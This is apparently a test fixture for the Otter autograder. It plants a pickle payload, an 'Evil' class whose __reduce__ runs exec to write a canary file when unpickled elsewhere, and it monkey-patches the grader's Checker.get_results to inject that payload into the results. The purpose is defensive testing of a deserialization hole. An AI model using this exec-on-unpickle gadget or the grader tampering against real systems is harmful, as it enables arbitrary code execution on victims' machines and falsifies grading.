"""Returns, and leaves in the file of results, objects that write a file where they are unpickled."""

PROOF = "otter"

CELL = """\
import os
import sys

here = os.getpid()


class Evil:
    def __reduce__(self):
        return exec, (f"import os\\nif os.getpid() != {here}: open('{canary}', 'w').write('unpickled')",)

    __deepcopy__ = __copy__ = lambda self, *_: self


def plant():
    checker = sys.modules.get("otter.execute.checker")
    if checker is not None:
        found = checker.Checker.get_results.__func__
        checker.Checker.get_results = classmethod(lambda cls: [*found(cls)[:-1], spoilt(found(cls)[-1])])


def spoilt(test_file):
    test_file.evil = Evil()
    return test_file


plant()
"""

Q1 = """\
def count_words(sentence):
    return Evil()"""

Q2 = """\
def one_hot(index, size):
    return [Evil()] * size"""
